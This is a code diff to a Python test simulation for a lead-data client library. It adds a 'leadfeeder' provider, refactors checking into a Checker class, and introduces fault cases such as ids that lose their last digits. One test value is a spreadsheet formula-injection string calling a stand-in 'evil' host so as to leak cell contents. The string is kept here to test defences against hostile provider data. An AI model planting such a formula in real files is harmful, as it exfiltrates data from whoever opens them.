@@ -9,14 +9,14 @@ from __future__ import annotations
 import dataclasses
 import json
 import random
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 from leadkit.errors import AnswerLostError, BadAnswerError, NotSentError
 from leadkit.providers.base import Request, Response
+from tests.simulation.checker import Checker
 from tests.simulation.protocol import PROTOCOLS, Reply
-from tests.simulation.provider import Provider
+from tests.simulation.provider import DO_NOT_CONTACT, Provider
 from tests.simulation.schedule import HTTP_FAULTS, NETWORK_FAULTS, Schedule
 from tests.simulation.scheduler import Process, Scheduler
 
@@ -40,10 +40,25 @@ _HOSTILE: dict[str, list[dict[str, Any]]] = {
     provider: [
         case
         for case in _CASES
-        if case["operation"] == operation and "body" in case["http"] and not case["http"].get("transport")
+        if case["operation"] == operation
+        and "body" in case["http"]
+        and not case["http"].get("transport")
+        and case["id"] != "LF05"  # what a search may not cost is less than what a record may
     ]
-    for provider, operation in (("leadleap", "POST /leads/unlock"), ("leadiq", "POST /graphql searchPeople"))
+    for provider, operation in (
+        ("leadleap", "POST /leads/unlock"),
+        ("leadiq", "POST /graphql searchPeople"),
+        ("leadfeeder", "companies.search / contact reveal"),
+    )
 }
+#: What these bodies say: names, or that there is nobody.
+_HOSTILE_WORDS: dict[str, tuple[str | None, ...]] = {
+    "leadleap": ("Sarah Mitchell", "Sarah", '=HYPERLINK("http://evil/?"&A1,"x")'),
+    "leadiq": (None,),
+    "leadfeeder": ("Example Company Ltd", DO_NOT_CONTACT),
+}
+#: As a number, an id has lost its last digits.
+_LOST_DIGITS = 9007199254740993.0
 _TIRED = {
     "asked": {"id": "-"},
     "http": {"status": 500, "headers": {}, "body": "["},
@@ -60,14 +75,14 @@ class Wire:
         scheduler: Scheduler,
         provider: Provider,
         rng: random.Random,
-        look: Callable[[str], None],
+        checker: Checker,
     ) -> None:
         self.failing = True
         self._schedule = schedule
         self._scheduler = scheduler
         self._provider = provider
         self._rng = rng
-        self._look = look  # the checker, after everything that the provider does
+        self._checker = checker
         self._protocol = PROTOCOLS[schedule.provider]
         kinds = (*NETWORK_FAULTS, *HTTP_FAULTS)
         self._faults = [kind for kind in schedule.faults if kind in kinds]
@@ -77,6 +92,7 @@ class Wire:
         assert task is not None
         task.naps = 0
         asked = self._protocol.asked(request)
+        self._checker.sends(task, asked)
         self._scheduler.pause(f"sends {request.path} {' '.join(asked)}", within=60.0)
         fault = self._fault()
         self._scheduler.note(task.process, f"  meets {fault}" if fault else "  is heard")
@@ -120,13 +136,15 @@ class Wire:
         reply = self._carry_out(asked, fault)
         if fault == "delivered_twice":
             self._carry_out(asked, fault)
-        self._look(f"after {' '.join(asked)} was carried out")
+        self._checker.look(f"after {' '.join(asked)} was carried out")
         return self._on_the_way_back(reply, request, fault)
 
     def _of_usage(self, fault: str) -> Response | Exception:
         if fault.endswith("_after") or fault in ("limited", "key_refused", "html_in_200_before"):
             return _HTML
-        return Response(200, _JSON, self._protocol.usage(*self._provider.usage()))
+        used, left = self._provider.usage()
+        self._checker.told(self._scheduler.task, left)
+        return Response(200, _JSON, self._protocol.usage(used, left))
 
     def _refusal(self, fault: str, request: Request) -> Response | None:
         """An answer to a request that is not carried out."""
@@ -158,6 +176,8 @@ class Wire:
         now = self._scheduler.now
         if self._schedule.provider == "leadiq":
             return self._provider.find(asked, now, over_price=fault == "over_price")
+        if self._schedule.provider == "leadfeeder":
+            return self._provider.read(asked, now, over_price=fault == "over_price")
         if self._schedule.step == "validate_emails":
             return self._provider.validate(asked, now)
         return self._provider.unlock(asked[0], now, over_price=fault == "over_price")
@@ -172,7 +192,7 @@ class Wire:
             return Response(status, _JSON, self._error(status, "INTERNAL_ERROR", request))
         if fault == "html_in_200_after":
             return dataclasses.replace(_HTML, status=200)
-        if not reply.error:
+        if reply.items:
             reply = self._distorted(reply, fault)
         body = self._protocol.answer(reply, request)
         if fault == "reset_midway":
@@ -181,7 +201,8 @@ class Wire:
             return Response(reply.status, _JSON, body[: self._rng.randrange(1, len(body) - 1)])
         for item in reply.items:
             if "refused" not in item:
-                self._provider.sent(self._id(item), item.get("full_name") or item.get("reason"))
+                words = item.get("full_name") or item.get("reason")
+                self._provider.sent(self._id(item), DO_NOT_CONTACT if item.get("do_not_contact") else words)
         if fault == "no_data_after" and not reply.error:
             body = self._protocol.answer(dataclasses.replace(reply, no_data=True), request)
         return Response(reply.status, _JSON, body)
@@ -196,6 +217,13 @@ class Wire:
             fault == "reordered" and self._schedule.provider == "leadleap"
         ):  # under aliases there is no order
             items = items[::-1]
+        elif fault == "wrong_id_after" and self._schedule.provider == "leadfeeder":
+            # Any other id may be the one that the record has now; one that came twice, or as a number, may not.
+            unclear = {
+                **self._provider.record(self._rng.choice(sorted(self._provider.prices))),
+                "now": _LOST_DIGITS,
+            }
+            items = [self._rng.choice([unclear, *items[1:]]), *items[1:]]
         elif fault == "wrong_id_after":
             others = [entity for entity in sorted(self._provider.prices) if entity != self._id(items[0])]
             if others:
@@ -219,15 +247,12 @@ class Wire:
             case, cost = _TIRED, 0
         if cost:
             self._provider.charge_by_hand(entity, cost, now)
-            self._look(f"after {entity} was carried out")
-        # What all of these bodies say: names, or that there is nobody.
-        names = ("Sarah Mitchell", "Sarah", '=HYPERLINK("http://evil/?"&A1,"x")')
-        for name in names if self._schedule.provider == "leadleap" else (None,):
-            self._provider.sent(entity, name)
-        http = case["http"]
-        body = (
-            http["body"].replace(next(iter(case["asked"].values())), entity).encode("utf-8", "surrogatepass")
-        )
+            self._checker.look(f"after {entity} was carried out")
+        for words in _HOSTILE_WORDS[self._schedule.provider]:
+            self._provider.sent(entity, words)
+        http, asked_for = case["http"], case["asked"]
+        placeholder = asked_for.get("id") or next(iter(asked_for.values()))
+        body = http["body"].replace(placeholder, entity).encode("utf-8", "surrogatepass")
         return Response(http["status"], http["headers"], body)
 
     @staticmethod
